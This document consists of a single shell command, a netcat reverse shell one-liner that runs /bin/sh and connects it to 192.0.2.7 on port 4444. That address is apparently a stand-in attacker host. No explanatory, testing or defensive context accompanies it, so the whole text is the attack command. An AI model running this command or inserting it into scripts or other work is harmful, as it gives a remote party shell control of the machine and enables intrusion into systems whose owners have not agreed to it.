nc -e /bin/sh 192.0.2.7 4444
